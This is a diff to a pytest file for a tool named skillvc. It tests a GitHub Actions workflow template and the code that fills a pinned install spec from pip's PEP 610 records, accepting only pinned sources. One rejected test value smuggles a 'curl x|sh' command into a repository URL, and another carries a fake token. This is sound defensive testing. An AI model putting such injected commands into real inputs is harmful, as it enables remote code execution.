@@ -5,6 +5,8 @@ unpinned actions, persisted credentials, excessive permissions, dangerous trigge
 check-jsonschema with GitHub's workflow schema. The structure the issue asks for is asserted
 on the parsed YAML, and the check step's shell script is run by bash, as the runner runs it,
 with the real skillvc against real repositories: a pass, a regression, and a fork without keys.
+`skillvc hooks workflow` fills SKILLVC_SPEC from the installed skillvc's PEP 610 record when
+that names a pinned source, and leaves the placeholder otherwise.
 """
 
 from __future__ import annotations
@@ -22,11 +24,14 @@ from typing import Any
 
 import pytest
 import yaml
+from click.testing import CliRunner
 from conftest import git
 from packaging.requirements import Requirement
 from test_eval import HARMFUL_RULE, add_rules, demo, trained  # noqa: F401 - demo is a fixture
 
+from skillvc.cli import cli
 from skillvc.resources import read_text
+from skillvc.workflow import PLACEHOLDER, installed_source, pinned_source
 
 TEMPLATE = read_text("templates", "github/skillvc-check.yml")
 WORKFLOW: dict[Any, Any] = yaml.safe_load(TEMPLATE)
@@ -85,6 +90,9 @@ def test_zizmor_finds_nothing_of_medium_or_higher(tmp_path: Path) -> None:
             tool("zizmor"),
             "--offline",  # no online audits, no request of any kind
             "--no-config",  # the template is judged as shipped, not by a local zizmor.yml
+            # pedantic reports code smells too; only the auditor persona goes further, with
+            # secrets-outside-env (medium): it wants the keys in a deployment environment,
+            # which would add a deployment to the pull request's timeline on every push.
             "--persona",
             "pedantic",
             "--min-severity",
@@ -344,3 +352,119 @@ def test_same_repo_pull_request_without_a_key_fails(pushed: Path, tmp_path: Path
     assert "::notice" not in stdout
     assert "Error: OPENAI_API_KEY is not set." in summary
     assert fail_step(outputs["status"], tmp_path) == 6
+
+
+# -- `skillvc hooks workflow`: SKILLVC_SPEC from the installed skillvc's own source --------------
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+WHEEL = "https://example.invalid/dl/skillvc-0.1.0-py3-none-any.whl"
+SHA256 = "ab" * 32
+GIT_URL = "https://github.com/acme/skillvc"
+
+
+@pytest.mark.parametrize(
+    ("direct_url", "expected"),
+    [
+        # pip install "git+https://github.com/acme/skillvc@main": pip records the commit
+        (
+            {"url": GIT_URL, "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
+            f"skillvc @ git+{GIT_URL}@{COMMIT}",
+        ),
+        (
+            {"url": WHEEL, "archive_info": {"hashes": {"sha256": SHA256}}},
+            f"skillvc @ {WHEEL}#sha256={SHA256}",
+        ),
+        (
+            {"url": WHEEL, "archive_info": {"hash": f"sha256={SHA256}"}},
+            f"skillvc @ {WHEEL}#sha256={SHA256}",
+        ),
+        # nothing pins these, or they would not work on a runner, or would print a secret
+        ({"url": WHEEL, "archive_info": {}}, None),
+        ({"url": WHEEL, "archive_info": {"hashes": {"md5": "ab" * 16}}}, None),
+        ({"url": "file:///home/me/skillvc", "dir_info": {"editable": True}}, None),
+        ({"url": "file:///home/me/skillvc", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, None),
+        (
+            {
+                "url": "http://github.com/acme/skillvc",
+                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
+            },
+            None,
+        ),
+        (
+            {
+                "url": "https://me:ghp_secret@github.com/acme/skillvc",
+                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
+            },
+            None,
+        ),
+        ({"url": GIT_URL, "vcs_info": {"vcs": "git", "commit_id": "main"}}, None),
+        ({"url": GIT_URL, "vcs_info": {"vcs": "hg", "commit_id": COMMIT}}, None),
+        (
+            {"url": GIT_URL, "vcs_info": {"vcs": "git", "commit_id": COMMIT}, "subdirectory": "py"},
+            None,
+        ),
+        (
+            {"url": GIT_URL + '"; curl x|sh; "', "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
+            None,
+        ),
+        ({"url": 7}, None),
+    ],
+)
+def test_pinned_source_from_pep_610_records(
+    direct_url: dict[str, Any], expected: str | None
+) -> None:
+    assert pinned_source(direct_url) == expected
+
+
+def test_workflow_command_asks_to_set_the_spec_when_the_source_is_not_pinned() -> None:
+    # This checkout is installed from a local directory (file://), which a runner cannot reach.
+    assert installed_source() is None
+    result = CliRunner().invoke(cli, ["hooks", "workflow"])
+    assert result.exit_code == 0
+    assert result.stdout == TEMPLATE
+    assert result.stderr == (
+        "Set SKILLVC_SPEC at the top of the workflow to a pinned skillvc source (a git URL at a "
+        "commit, or a wheel URL with #sha256=) before the first run.\n"
+    )
+
+
+def test_workflow_command_pins_the_git_commit_skillvc_was_installed_from(tmp_path: Path) -> None:
+    """An installed distribution whose direct_url.json (written by pip for a git install) names
+    an https repository at a commit: the printed workflow installs exactly that, and lints clean."""
+    site = tmp_path / "site"
+    dist_info = site / "skillvc-0.1.0.dist-info"
+    dist_info.mkdir(parents=True)
+    (dist_info / "METADATA").write_text("Metadata-Version: 2.1\nName: skillvc\nVersion: 0.1.0\n")
+    record = {
+        "url": GIT_URL,
+        "vcs_info": {"vcs": "git", "requested_revision": "main", "commit_id": COMMIT},
+    }
+    (dist_info / "direct_url.json").write_text(json.dumps(record))
+    env = {**os.environ, "PYTHONPATH": str(site)}  # found before the checkout's own metadata
+    result = subprocess.run(
+        [sys.executable, "-m", "skillvc", "hooks", "workflow"],
+        cwd=tmp_path,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
+    assert result.returncode == 0, result.stderr
+    spec = f"skillvc @ git+{GIT_URL}@{COMMIT}"
+    assert result.stderr == f"SKILLVC_SPEC is the source this skillvc came from: {spec}\n"
+    assert result.stdout == TEMPLATE.replace(f'"{PLACEHOLDER}"', f'"{spec}"')
+    assert yaml.safe_load(result.stdout)["env"] == {"SKILLVC_SPEC": spec}
+    # The filled-in spec passes the install step's guard (pip itself is not run here).
+    guard = step("check", "Install skillvc")["run"].replace(
+        "python -m pip install", ": pip install"
+    )
+    assert run_step(guard, tmp_path, {"SKILLVC_SPEC": spec}).returncode == 0
+    path = installed_copy(tmp_path)
+    path.write_text(result.stdout)
+    lint = subprocess.run(
+        [tool("zizmor"), "--offline", "--no-config", "--persona", "pedantic"]
+        + ["--min-severity", "medium", "--format", "json", str(path)],
+        env=offline_env(tmp_path),
+        capture_output=True,
+        text=True,
+    )
+    assert (lint.returncode, json.loads(lint.stdout)) == (0, [])
